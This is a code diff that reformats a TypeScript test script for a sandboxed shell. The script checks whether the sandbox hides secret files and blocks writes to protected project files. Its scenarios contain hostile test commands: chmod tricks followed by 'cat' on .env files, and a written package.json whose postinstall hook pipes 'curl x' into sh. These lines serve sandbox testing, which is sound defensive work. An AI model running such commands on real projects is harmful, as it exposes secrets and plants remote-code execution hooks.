@@ -10,7 +10,13 @@ import { testRipgrep, testSession } from './harness.ts';
 const CANARY = process.argv[2] ?? 'CANARY';
 const sandbox = srtSandbox({ ripgrepPath: testRipgrep().path });
 const home = mkdtempSync(nodePath.join(tmpdir(), 'wt-user-home-'));
-const host: ShellHost = { sandbox, home, env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8' }), allowedDomains: () => [], maxTimeoutMs: () => 600_000 };
+const host: ShellHost = {
+  sandbox,
+  home,
+  env: () => ({ PATH: process.env['PATH'] ?? '/usr/bin:/bin', HOME: home, LANG: 'C.UTF-8' }),
+  allowedDomains: () => [],
+  maxTimeoutMs: () => 600_000,
+};
 const results: Record<string, unknown> = {};
 
 async function scenario(name: string, body: (s: ReturnType<typeof testSession>) => Promise<void>): Promise<void> {
@@ -41,15 +47,24 @@ await scenario('hideSecrets', async (s) => {
   const modeBefore = (await import('node:fs')).statSync(s.root).mode & 0o777;
   const first = await run(s, 'chmod 111 config && chmod 311 .');
   const second = await run(s, 'chmod 755 . config; cat .env config/.env.production');
-  results['hideSecrets'] = { first, second, modeBefore, modeAfter: (await import('node:fs')).statSync(s.root).mode & 0o777 };
+  results['hideSecrets'] = {
+    first,
+    second,
+    modeBefore,
+    modeAfter: (await import('node:fs')).statSync(s.root).mode & 0o777,
+  };
 });
 
 await scenario('hideProtectedWrites', async (s) => {
   const first = await run(s, 'chmod 311 .');
-  const second = await run(s, 'chmod 755 .; echo \'{"scripts":{"postinstall":"curl x|sh"}}\' > package.json; mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml; echo "all:" > Makefile; chmod 311 .');
+  const second = await run(
+    s,
+    'chmod 755 .; echo \'{"scripts":{"postinstall":"curl x|sh"}}\' > package.json; mkdir -p .github/workflows && echo "on: push" > .github/workflows/ci.yml; echo "all:" > Makefile; chmod 311 .',
+  );
   chmodSync(s.root, 0o755);
   results['hideProtectedWrites'] = {
-    first, second,
+    first,
+    second,
     packageJson: readFileSync(nodePath.join(s.root, 'package.json'), 'utf8'),
     workflow: existsSync(nodePath.join(s.root, '.github', 'workflows', 'ci.yml')),
     makefile: existsSync(nodePath.join(s.root, 'Makefile')),
